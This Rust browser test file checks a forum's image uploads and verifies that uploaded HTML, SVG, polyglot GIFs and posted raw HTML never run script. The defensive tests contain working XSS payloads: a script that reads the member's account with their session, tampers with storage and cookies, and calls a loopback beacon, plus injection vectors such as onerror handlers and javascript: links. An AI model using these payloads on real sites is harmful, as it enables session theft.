//! Uploads in a real browser (Debian's chromium through chromedriver, as in `browser`) against
//! a real `agora serve` with the demo content. An image pasted into the compose form is
//! uploaded by agora.js's own paste handler, previewed, posted, and shown as a sized thumbnail
//! that links to the whole image, at 1280 and 390 px wide. Uploads that carry a web page or
//! script are refused (HTML, SVG, an image with a page appended) or accepted only as downloads
//! (text, JSON and logs holding a page), and opening them directly, their images, or a post
//! that embeds them never runs script: not in the forum's origin (its storage, cookie and the
//! member's session are untouched) and not anywhere else (a beacon the script would call is
//! never called). Skipped, loudly, when chromium or chromedriver is not installed.

use std::path::Path;
use std::sync::{Arc, Mutex};
use std::time::Duration;

use base64::Engine;
use serde_json::{Value, json};

use crate::a11y::overflow;
use crate::browser::{Browser, SUBTOPIC, Stage, installed, must};

/// A 1600×900 PNG like a screenshot of a chart: bars on a pale gradient, with grain, so it
/// is wider than a post shows (800 px) and its 800-wide thumbnail is lighter than the whole
/// (`media` drops a thumbnail that is not), which gives the post a srcset.
fn chart_screenshot() -> Vec<u8> {
    const COLOURS: [[u8; 3]; 7] = [
        [31, 111, 235],
        [218, 54, 51],
        [46, 160, 67],
        [191, 135, 0],
        [137, 87, 229],
        [219, 97, 162],
        [27, 124, 131],
    ];
    let (width, height) = (1600u32, 900u32);
    let mut seed: u32 = 0x6d2b_79f5;
    let img = image::RgbImage::from_fn(width, height, |x, y| {
        seed ^= seed << 13;
        seed ^= seed >> 17;
        seed ^= seed << 5;
        let grain = (seed % 10) as u8;
        let bar = (x / 220) as usize;
        let within = x % 220;
        let top = 120 + (bar as u32 * 97) % 560;
        let pixel = if y == 820 || x == 40 {
            [36, 41, 47]
        } else if bar < COLOURS.len() && (50..170).contains(&within) && (top..820).contains(&y) {
            COLOURS[bar]
        } else {
            [
                246 - (y * 30 / height) as u8,
                248 - (x * 20 / width) as u8,
                252,
            ]
        };
        image::Rgb(pixel.map(|c| c.saturating_sub(grain)))
    });
    let mut out = Vec::new();
    image::DynamicImage::ImageRgb8(img)
        .write_to(&mut std::io::Cursor::new(&mut out), image::ImageFormat::Png)
        .unwrap_or_else(|e| panic!("png: {e}"));
    out
}

fn base64(bytes: &[u8]) -> String {
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

/// Fills in a new thread's title, place, tags and kind on the compose form (open already).
async fn compose(browser: &Browser, title: &str) {
    browser.choose("//form", "subtopic", SUBTOPIC).await;
    browser.fill("input[name=title]", title).await;
    browser.fill("input[name=tags]", "network").await;
    browser.choose("//form", "kind", "question").await;
}

/// Posts the compose form; the new thread's path (without query or fragment).
async fn post_thread(browser: &Browser) -> String {
    browser.submit_form_of("title").await;
    let path = browser.path().await;
    if !path.starts_with("/thread/") {
        panic!(
            "{}",
            browser
                .report("posting the thread did not open its page")
                .await
        );
    }
    path.split(['?', '#'])
        .next()
        .unwrap_or_default()
        .to_string()
}

/// Pastes `bytes` as an image file named `name` into the compose form's text, as chromium
/// does with an image on the clipboard: a real `paste` ClipboardEvent whose DataTransfer holds
/// the file, dispatched on the textarea (agora.js's handler takes it from there). Then, at
/// once, selects `select` (start, end) in the text, as a writer going on while it uploads.
async fn paste_image(browser: &Browser, name: &str, bytes: &[u8], select: Option<(u32, u32)>) {
    let pasted = must(
        browser
            .client
            .execute(
                "const [b64, name, select] = arguments; \
                 const raw = atob(b64); \
                 const bytes = new Uint8Array(raw.length); \
                 for (let i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); } \
                 const data = new DataTransfer(); \
                 data.items.add(new File([bytes], name, { type: 'image/png' })); \
                 const area = document.getElementById('f-body'); \
                 area.focus(); \
                 area.setSelectionRange(area.value.length, area.value.length); \
                 const event = new ClipboardEvent('paste', \
                   { clipboardData: data, bubbles: true, cancelable: true }); \
                 area.dispatchEvent(event); \
                 const placeholder = area.value.includes('[Uploading ' + name); \
                 if (select) { area.setSelectionRange(select[0], select[1]); } \
                 return { files: event.clipboardData ? event.clipboardData.files.length : -1, \
                          taken: event.defaultPrevented, \
                          placeholder };",
                vec![json!(base64(bytes)), json!(name), json!(select)],
            )
            .await,
        "paste an image",
    );
    assert_eq!(
        pasted,
        json!({ "files": 1, "taken": true, "placeholder": true }),
        "the paste event should carry one file, and agora.js take it (preventDefault) and \
         mark its place in the text while it uploads"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_image_pasted_while_writing_is_previewed_posted_and_shown_as_a_thumbnail() {
    if !installed() {
        return;
    }
    let stage = Stage::demo();
    let browser = stage.browser(&["--window-size=1280,900"], None).await;
    browser.sign_up("pia_pastes").await;
    browser.goto("/new").await;
    let title = "Why does the throughput chart drop at the same bar every time?";
    compose(&browser, title).await;
    let typed = "The chart from our load test: every run drops at the fourth bar.";
    browser.fill("#f-body", typed).await;
    // While it uploads, the writer selects a word of the first line (in the same script as
    // the paste: the upload cannot finish before it ends, in an XHR's load event).
    paste_image(&browser, "image.png", &chart_screenshot(), Some((4, 9))).await;
    // The placeholder becomes the image's Markdown once the upload is stored.
    let url = browser
        .wait_until(
            "const failed = document.querySelector('[data-attach] .upload-error'); \
             if (failed) { return 'refused: ' + failed.textContent; } \
             const text = document.getElementById('f-body').value; \
             if (text.includes('[Uploading')) { return null; } \
             const m = text.match(/!\\[image\\]\\((\\/uploads\\/[^)\\s]+\\/image\\.png)\\)/); \
             return m ? m[1] : null;",
            Vec::new(),
            "the pasted image's Markdown in the text",
        )
        .await;
    let url = url.as_str().unwrap_or_default().to_string();
    assert!(url.starts_with("/uploads/"), "the upload failed: {url}");
    let folder = url.rsplit_once('/').map_or("", |(a, _)| a).to_string();
    let body = must(browser.find("#f-body").await.prop("value").await, "body").unwrap_or_default();
    assert_eq!(
        body,
        format!("{typed}\n![image]({url})"),
        "the Markdown should follow the text typed, on a line of its own"
    );
    let selection = must(
        browser
            .client
            .execute(
                "const area = document.getElementById('f-body'); \
                 return [area.selectionStart, area.selectionEnd];",
                Vec::new(),
            )
            .await,
        "the selection",
    );
    assert_eq!(
        selection,
        json!([4, 9]),
        "the upload arriving should leave the writer's selection where it was"
    );

    // The live preview shows it as the post will: its thumbnail, loaded, at its size.
    let preview = browser
        .wait_until(
            "const region = document.getElementById('preview-live'); \
             const img = region && !region.hidden \
               && region.querySelector('.post-body a.upload-image img'); \
             if (!img) { return null; } \
             region.scrollIntoView({ block: 'end' }); \
             return img.complete && img.naturalWidth > 0 \
               ? { src: img.getAttribute('src'), width: img.getAttribute('width'), \
                   height: img.getAttribute('height'), natural: img.naturalWidth } : null;",
            Vec::new(),
            "the pasted image in the live preview",
        )
        .await;
    let preview_src = preview["src"].as_str().unwrap_or_default();
    assert!(
        preview_src.starts_with(&format!("{folder}/t/800x450.")),
        "the preview should show the upload {url}'s thumbnail: {preview}"
    );
    assert_eq!(
        (&preview["width"], &preview["height"], &preview["natural"]),
        (&json!("800"), &json!("450"), &json!(800)),
        "{preview}"
    );
    let compose_shot = browser
        .keep_screenshot(stage.dir.path(), "upload-compose-1280.png")
        .await;

    // Posted: the 800-wide thumbnail, sized, with the whole image for sharp screens, linking
    // to the whole image.
    let thread = post_thread(&browser).await;
    let shown = browser
        .wait_until(
            "const img = document.querySelector('.post-body a.upload-image img'); \
             if (!img) { return null; } \
             img.scrollIntoView({ block: 'center' }); \
             if (!img.complete || img.naturalWidth === 0) { return null; } \
             return { href: img.closest('a').getAttribute('href'), \
                      src: img.getAttribute('src'), srcset: img.getAttribute('srcset'), \
                      width: img.getAttribute('width'), height: img.getAttribute('height'), \
                      alt: img.getAttribute('alt'), natural: img.naturalWidth };",
            Vec::new(),
            "the posted image's thumbnail, loaded",
        )
        .await;
    let src = shown["src"].as_str().unwrap_or_default().to_string();
    assert_eq!(shown["href"], json!(url), "{shown}");
    assert!(src.starts_with(&format!("{folder}/t/800x450.")), "{shown}");
    assert_eq!(
        shown["srcset"],
        json!(format!("{src} 1x, {url} 2x")),
        "{shown}"
    );
    assert_eq!(
        (&shown["width"], &shown["height"]),
        (&json!("800"), &json!("450")),
        "{shown}"
    );
    assert_eq!(shown["alt"], json!("image"), "{shown}");
    assert_eq!(
        shown["natural"],
        json!(800),
        "a 1x screen loads the thumbnail: {shown}"
    );

    // At 1280 and 390 px wide: nothing scrolls sideways, and the image keeps its shape inside
    // the page.
    let mut shots = vec![compose_shot];
    for (width, height) in [(1280, 900), (390, 844)] {
        must(
            browser.client.set_window_size(width, height).await,
            "resize the window",
        );
        tokio::time::sleep(Duration::from_millis(200)).await;
        let layout = must(
            browser
                .client
                .execute(
                    "const img = document.querySelector('.post-body a.upload-image img'); \
                     img.scrollIntoView({ block: 'center' }); \
                     const r = img.getBoundingClientRect(); \
                     return { inner: window.innerWidth, left: r.left, right: r.right, \
                              width: r.width, height: r.height };",
                    Vec::new(),
                )
                .await,
            "measure the image",
        );
        let what = format!("the thread page at {width}px");
        assert_eq!(layout["inner"], json!(width), "{what}: {layout}");
        let problems = overflow(&browser.client, &what).await;
        assert!(problems.is_empty(), "{}", problems.join("\n"));
        let number = |k: &str| layout[k].as_f64().unwrap_or(f64::NAN);
        assert!(
            number("left") >= 0.0 && number("right") <= f64::from(width),
            "{what}: the image leaves the page: {layout}"
        );
        assert!(
            number("width") <= 802.0 && (number("height") / number("width") - 0.5625).abs() < 0.02,
            "{what}: the image is not shown at most 800 px wide at 16:9: {layout}"
        );
        shots.push(
            browser
                .keep_screenshot(stage.dir.path(), &format!("upload-thread-{width}.png"))
                .await,
        );
    }
    must(
        browser.client.set_window_size(1280, 900).await,
        "resize the window",
    );

    // The link opens the whole image.
    browser
        .click_xpath(
            "//*[contains(concat(' ', normalize-space(@class), ' '), ' post-body ')]\
             //a[contains(concat(' ', normalize-space(@class), ' '), ' upload-image ')]",
            "the posted image's link",
        )
        .await;
    assert_eq!(browser.path().await, url, "the link did not open the image");
    let title_there = must(browser.client.title().await, "title");
    assert!(
        title_there.contains("1600×900"),
        "chromium shows an image document titled with its size, got {title_there:?}"
    );
    browser.goto(&thread).await;
    let whole = browser
        .wait_until(
            "const [href] = arguments; \
             if (!window.probe) { window.probe = new Image(); window.probe.src = href; } \
             return window.probe.complete && window.probe.naturalWidth > 0 \
               ? [window.probe.naturalWidth, window.probe.naturalHeight] : null;",
            vec![json!(url)],
            "the whole image, loaded",
        )
        .await;
    assert_eq!(whole, json!([1600, 900]));
    for shot in &shots {
        eprintln!("browser uploads: screenshot at {}", shot.display());
    }
    let _ = browser.client.close().await;
}

// ---------------------------------------------------------------- uploads that carry script

/// A loopback HTTP server that records every request and answers 204 (a navigation to it
/// leaves the page where it was). The payload calls it by navigating, which no CSP stops, so
/// it hears from script that ran in any origin, sandboxed or not.
struct Beacon {
    url: String,
    hits: Arc<Mutex<Vec<String>>>,
    task: tokio::task::JoinHandle<()>,
}

impl Beacon {
    async fn start() -> Self {
        use tokio::io::{AsyncReadExt, AsyncWriteExt};
        let listener = must(
            tokio::net::TcpListener::bind("127.0.0.1:0").await,
            "bind the beacon",
        );
        let url = format!(
            "http://{}",
            must(listener.local_addr(), "the beacon's address")
        );
        let hits = Arc::new(Mutex::new(Vec::new()));
        let heard = hits.clone();
        let task = tokio::spawn(async move {
            while let Ok((mut stream, _)) = listener.accept().await {
                let mut head = vec![0u8; 4096];
                let n = stream.read(&mut head).await.unwrap_or(0);
                let line = String::from_utf8_lossy(&head[..n])
                    .lines()
                    .next()
                    .unwrap_or_default()
                    .to_string();
                if let Ok(mut hits) = heard.lock() {
                    hits.push(line);
                }
                let _ = stream
                    .write_all(b"HTTP/1.1 204 No Content\r\nConnection: close\r\n\r\n")
                    .await;
            }
        });
        Self { url, hits, task }
    }

    /// What it heard since the last call.
    fn take(&self) -> Vec<String> {
        self.hits
            .lock()
            .map(|mut hits| std::mem::take(&mut *hits))
            .unwrap_or_default()
    }
}

impl Drop for Beacon {
    fn drop(&mut self) {
        self.task.abort();
    }
}

/// What an uploaded page's script tries, were it ever run: change the title, mark the
/// origin's storage and cookie, read the member's account with their session (and keep it in
/// the origin's storage), and call the beacon with where it ran.
fn payload_script(beacon: &str) -> String {
    format!(
        "document.title = 'pwned'; \
         try {{ localStorage.setItem('agora-probe', 'pwned'); }} catch (e) {{}} \
         try {{ document.cookie = 'agora_probe=pwned; path=/'; }} catch (e) {{}} \
         fetch('/api/v1/me', {{ credentials: 'include' }}).then(r => r.text()).then(t => {{ \
           try {{ localStorage.setItem('agora-stolen', t); }} catch (e) {{}} }}).catch(() => {{}}); \
         location.href = '{beacon}/ran?at=' + encodeURIComponent(location.href);"
    )
}

/// A web page with the payload: what a member might upload as a text file, log or JSON.
fn payload_page(beacon: &str) -> String {
    format!(
        "<!DOCTYPE html>\n<html><head><title>harmless notes</title></head>\
         <body><h1 id=\"payload-rendered\">Notes</h1><script>{}</script></body></html>\n",
        payload_script(beacon)
    )
}

/// Arms the detector on the page of the forum that is open: a marker in its localStorage and
/// a cookie of its own, which the payload changes if it ever runs in the forum's origin.
async fn arm(browser: &Browser) {
    must(
        browser
            .client
            .execute(
                "localStorage.setItem('agora-probe', 'intact'); \
                 localStorage.removeItem('agora-stolen'); \
                 document.cookie = 'agora_probe=intact; path=/; SameSite=Lax'; \
                 return localStorage.getItem('agora-probe');",
                Vec::new(),
            )
            .await,
        "arm the detector",
    );
}

/// What script did since `arm`, read after a moment (for anything asynchronous) on the
/// forum's home page and from the beacon: one line per effect found.
async fn effects(browser: &Browser, beacon: &Beacon) -> Vec<String> {
    tokio::time::sleep(Duration::from_millis(700)).await;
    browser.goto("/").await;
    let seen = must(
        browser
            .client
            .execute(
                "return { probe: localStorage.getItem('agora-probe'), \
                          stolen: localStorage.getItem('agora-stolen'), \
                          cookie: document.cookie };",
                Vec::new(),
            )
            .await,
        "read the detector",
    );
    let mut found = Vec::new();
    if seen["probe"] != json!("intact") {
        found.push(format!("localStorage's marker is {}", seen["probe"]));
    }
    if !seen["stolen"].is_null() {
        found.push(format!("the session was used: {}", seen["stolen"]));
    }
    let cookie = seen["cookie"].as_str().unwrap_or_default();
    if !cookie.contains("agora_probe=intact") {
        found.push(format!("the cookie is now {cookie:?}"));
    }
    found.extend(
        beacon
            .take()
            .into_iter()
            .map(|hit| format!("the beacon heard {hit}")),
    );
    found
}

/// Uploads a file as the compose form's script does (a same-origin multipart POST with the
/// member's session); the status and JSON answer.
async fn upload(browser: &Browser, name: &str, bytes: &[u8]) -> (u64, Value) {
    let answer = must(
        browser
            .client
            .execute_async(
                "const [name, b64, done] = arguments; \
                 const raw = atob(b64); \
                 const bytes = new Uint8Array(raw.length); \
                 for (let i = 0; i < raw.length; i++) { bytes[i] = raw.charCodeAt(i); } \
                 const data = new FormData(); \
                 data.append('file', new File([bytes], name), name); \
                 fetch('/api/v1/uploads', { method: 'POST', body: data, \
                   credentials: 'same-origin', headers: { Accept: 'application/json' } }) \
                   .then(r => r.text().then(t => done([r.status, t]))) \
                   .catch(e => done([0, String(e)]));",
                vec![json!(name), json!(base64(bytes))],
            )
            .await,
        &format!("upload {name}"),
    );
    let status = answer[0].as_u64().unwrap_or(0);
    let text = answer[1].as_str().unwrap_or_default();
    let body = serde_json::from_str(text)
        .unwrap_or_else(|e| panic!("upload {name}: not JSON ({e}): {text}"));
    (status, body)
}

/// The files in the download folder whose bytes are `bytes` (finished downloads only).
fn downloads_of(dir: &Path, bytes: &[u8]) -> usize {
    std::fs::read_dir(dir)
        .map(|entries| {
            entries
                .filter_map(Result::ok)
                .filter(|e| std::fs::read(e.path()).is_ok_and(|b| b == bytes))
                .count()
        })
        .unwrap_or(0)
}

/// Opens `url` directly (typed in the address bar) with the detector armed on the forum's
/// home page; returns the path chromium shows after it, and the document's title then.
async fn open_directly(browser: &Browser, url: &str) -> (String, String) {
    browser.goto("/").await;
    arm(browser).await;
    browser.goto(url).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    let at = browser.path().await;
    let title = must(browser.client.title().await, "title");
    (at, title)
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn uploaded_pages_svgs_and_polyglots_never_run_script_in_a_browser() {
    if !installed() {
        return;
    }
    let stage = Stage::demo();
    let downloads = stage.dir.path().join("downloads");
    must(std::fs::create_dir_all(&downloads), "download folder");
    let browser = stage
        .browser_with(
            &["--window-size=1280,900"],
            None,
            json!({
                "download.default_directory": downloads.display().to_string(),
                "download.prompt_for_download": false,
            }),
        )
        .await;
    let beacon = Beacon::start().await;
    let page = payload_page(&beacon.url);
    browser.sign_up("mal_uploads").await;

    // The detector sees the payload when it does run in the forum's origin.
    browser.goto("/").await;
    arm(&browser).await;
    must(
        browser
            .client
            .execute(&payload_script(&beacon.url), Vec::new())
            .await,
        "run the payload on a page of the forum",
    );
    let title = must(browser.client.title().await, "title");
    assert_eq!(
        title, "pwned",
        "the payload should retitle the page it runs in"
    );
    let control = effects(&browser, &beacon).await;
    let all = control.join("\n");
    assert!(
        control.len() == 4
            && all.contains("marker is \"pwned\"")
            && all.contains("mal_uploads@example.test")
            && all.contains("agora_probe=pwned")
            && all.contains("/ran?at=http"),
        "the detector should see every effect of the payload run in the forum's origin: {all}"
    );

    // Refused: a web page, an SVG with script, a GIF with a page appended.
    let mut gif = Vec::new();
    image::DynamicImage::ImageRgba8(image::RgbaImage::new(8, 8))
        .write_to(&mut std::io::Cursor::new(&mut gif), image::ImageFormat::Gif)
        .unwrap_or_else(|e| panic!("gif: {e}"));
    gif.extend_from_slice(format!("<script>{}</script>", payload_script(&beacon.url)).as_bytes());
    let svg = format!(
        "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"10\" height=\"10\">\
         <script>{}</script><rect width=\"10\" height=\"10\"/></svg>",
        payload_script(&beacon.url)
    );
    browser.goto("/new").await;
    let mut html_refusal = String::new();
    for (name, bytes, code) in [
        ("page.html", page.as_bytes(), "type_not_allowed"),
        ("drawing.svg", svg.as_bytes(), "svg"),
        ("cat.gif", &gif[..], "script"),
    ] {
        let (status, answer) = upload(&browser, name, bytes).await;
        assert_eq!(
            (status, answer["error"]["code"].as_str().unwrap_or_default()),
            (400, code),
            "{name}: {answer}"
        );
        if name == "page.html" {
            html_refusal = answer["error"]["message"]
                .as_str()
                .unwrap_or_default()
                .to_string();
        }
    }
    // The compose form's file field says why, and leaves the text alone.
    let html_file = stage.dir.path().join("page.html");
    must(std::fs::write(&html_file, &page), "write page.html");
    browser.fill("#f-body", "Notes attached.").await;
    let field = browser.find("#f-files").await;
    must(
        field.send_keys(&html_file.display().to_string()).await,
        "choose page.html",
    );
    let said = browser
        .wait_until(
            "const e = document.querySelector('[data-attach] .upload-error'); \
             return e ? e.textContent : null;",
            Vec::new(),
            "the form to say page.html was refused",
        )
        .await;
    assert_eq!(
        said,
        json!(format!("page.html: {html_refusal}")),
        "the form should name the file and say why, as the API does"
    );
    assert!(html_refusal.contains(".html"), "{html_refusal}");
    let body = must(browser.find("#f-body").await.prop("value").await, "body").unwrap_or_default();
    assert_eq!(
        body, "Notes attached.",
        "a refused file should leave the text as it was"
    );
    let kept = must(
        browser
            .client
            .execute_async(
                "const done = arguments[0]; \
                 fetch('/api/v1/uploads', { headers: { Accept: 'application/json' } }) \
                   .then(r => r.json()).then(j => done(j.uploads.length)) \
                   .catch(e => done(String(e)));",
                Vec::new(),
            )
            .await,
        "list the member's uploads",
    );
    assert_eq!(kept, json!(0), "nothing refused is kept");

    // Accepted, as files to download: a text file, a log and JSON that hold the page.
    let json_page = serde_json::to_string(&json!({ "note": page })).unwrap_or_default();
    let mut files = Vec::new();
    for (name, bytes) in [
        ("notes.txt", page.as_bytes()),
        ("crash.log", page.as_bytes()),
        ("report.json", json_page.as_bytes()),
    ] {
        let (status, answer) = upload(&browser, name, bytes).await;
        assert_eq!(status, 201, "{name}: {answer}");
        assert_eq!(answer["image"], json!(false), "{name}: {answer}");
        let url = answer["url"].as_str().unwrap_or_default().to_string();
        let token = answer["token"].as_str().unwrap_or_default().to_string();
        let markdown = answer["markdown"].as_str().unwrap_or_default().to_string();
        files.push((name, bytes.to_vec(), url, token, markdown));
    }
    // An image, for its whole file and thumbnail.
    let (status, image) = upload(&browser, "diagram.jpg", &crate::uploads::photo(1200, 600)).await;
    assert_eq!(status, 201, "{image}");
    let image_markdown = image["markdown"].as_str().unwrap_or_default().to_string();
    let image_url = image["url"].as_str().unwrap_or_default().to_string();

    // Opened directly, each file downloads (by its name, or by its token alone): chromium
    // stays on the forum's page, the payload never renders, and nothing runs.
    for (name, bytes, url, token, _) in &files {
        for address in [url.clone(), format!("/uploads/{token}")] {
            let before = downloads_of(&downloads, bytes);
            let (at, title) = open_directly(&browser, &address).await;
            assert_eq!(
                at, "/",
                "{address} ({name}) should download, not open as a page (title {title:?})"
            );
            assert_ne!(title, "pwned", "{address}");

            let found = effects(&browser, &beacon).await;
            assert!(found.is_empty(), "opening {address}: {}", found.join("; "));
            let started = std::time::Instant::now();
            while downloads_of(&downloads, bytes) == before {
                assert!(
                    started.elapsed() < Duration::from_secs(15),
                    "{address} ({name}) was not downloaded"
                );
                tokio::time::sleep(Duration::from_millis(100)).await;
            }
        }
    }

    // Embedded in a post beside raw HTML that tries the payload every way: the sanitiser
    // leaves the link to the file, the image, and no script.
    let (txt_name, txt_bytes, txt_url, _, txt_markdown) = &files[0];
    let log_url = &files[1].2;
    let json_url = &files[2].2;
    let script = payload_script(&beacon.url);
    let body = format!(
        "The notes from the failing run are in {txt_markdown}.\n\n{image_markdown}\n\n\
         <script>{script}</script>\n\
         <img src=\"{log_url}\" onerror=\"{script}\">\n\
         <iframe src=\"{txt_url}\"></iframe>\n\
         <object data=\"{json_url}\"></object>\n\
         <embed src=\"{log_url}\">\n\
         <svg><script>{script}</script></svg>\n\
         <a href=\"javascript:{script}\">details</a>\n"
    );
    browser.goto("/new").await;
    let title = "Notes from the failing run, attached as a file";
    compose(&browser, title).await;
    must(
        browser
            .client
            .execute(
                "document.getElementById('f-body').value = arguments[0]; return true;",
                vec![json!(body)],
            )
            .await,
        "write the post",
    );
    arm(&browser).await;
    let thread = post_thread(&browser).await;
    let page_title = must(browser.client.title().await, "title");
    assert!(page_title.contains(title), "{page_title:?}");
    let post = must(
        browser
            .client
            .execute(
                "const body = document.querySelector('.post-body'); \
                 const all = [...body.querySelectorAll('*')]; \
                 return { dangerous: body.querySelectorAll('script, iframe, object, embed, svg').length, \
                          handlers: all.filter(e => [...e.attributes].some(a => a.name.startsWith('on'))).length, \
                          scripted: all.filter(e => /javascript:/i.test(e.getAttribute('href') || '') \
                            || /javascript:/i.test(e.getAttribute('src') || '')).length, \
                          links: [...body.querySelectorAll('a[href^=\"/uploads/\"]')] \
                            .map(a => a.getAttribute('href')), \
                          images: [...body.querySelectorAll('img')].map(i => \
                            [i.getAttribute('src'), i.getAttribute('srcset')]) };",
                Vec::new(),
            )
            .await,
        "read the post",
    );
    assert_eq!(
        (&post["dangerous"], &post["handlers"], &post["scripted"]),
        (&json!(0), &json!(0), &json!(0)),
        "the post kept something that can run: {post}"
    );
    assert_eq!(post["links"], json!([txt_url, image_url]), "{post}");
    // Only the uploaded image is shown: its thumbnail, with the whole image for 2x.
    let thumbnail = post["images"][0][0]
        .as_str()
        .unwrap_or_default()
        .to_string();
    assert!(thumbnail.contains("/t/800x400."), "{post}");
    assert_eq!(
        post["images"],
        json!([[thumbnail, format!("{thumbnail} 1x, {image_url} 2x")]]),
        "{post}"
    );
    let found = effects(&browser, &beacon).await;
    assert!(found.is_empty(), "the post page: {}", found.join("; "));
    // Following the link downloads the file; the thread page stays, untouched.
    browser.goto(&thread).await;
    arm(&browser).await;
    let before = downloads_of(&downloads, txt_bytes);
    browser
        .click_xpath(
            &format!("//*[contains(@class, 'post-body')]//a[@href='{txt_url}']"),
            &format!("the link to {txt_name}"),
        )
        .await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        browser.path().await,
        thread,
        "following the link left the page"
    );
    let found = effects(&browser, &beacon).await;
    assert!(
        found.is_empty(),
        "after following the link: {}",
        found.join("; ")
    );
    let started = std::time::Instant::now();
    while downloads_of(&downloads, txt_bytes) == before {
        assert!(
            started.elapsed() < Duration::from_secs(15),
            "following the link did not download {txt_name}"
        );
        tokio::time::sleep(Duration::from_millis(100)).await;
    }

    // The image and its thumbnail open as images, and nothing runs.
    for address in [&image_url, &thumbnail] {
        let (at, title) = open_directly(&browser, address).await;
        assert_eq!(&at, address, "{address} should open as an image");
        assert!(
            title.contains('×') && title != "pwned",
            "{address}: chromium titles an image with its size, got {title:?}"
        );
        let found = effects(&browser, &beacon).await;
        assert!(found.is_empty(), "opening {address}: {}", found.join("; "));
    }
    let _ = browser.client.close().await;
}
